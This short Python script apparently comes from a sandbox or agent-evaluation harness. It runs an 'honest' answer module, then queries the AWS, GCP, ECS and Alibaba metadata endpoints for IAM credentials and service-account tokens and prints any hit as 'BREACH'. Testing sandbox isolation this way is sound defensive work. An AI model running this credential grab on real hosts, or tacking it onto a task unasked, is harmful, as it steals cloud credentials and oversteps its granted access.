"""Asks the cloud's metadata service for credentials."""

from __future__ import annotations

import http.client
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest import answer

answer()
PATHS = (
    "/latest/meta-data/iam/security-credentials/",
    "/computeMetadata/v1/instance/service-accounts/default/token",
)
for host in ("169.254.169.254", "metadata.google.internal", "169.254.170.2", "100.100.100.200"):
    for path in PATHS:
        try:
            connection = http.client.HTTPConnection(host, timeout=0.2)
            connection.request("GET", path, headers={"Metadata-Flavor": "Google"})
            print("BREACH", connection.getresponse().read())
        except OSError:
            continue
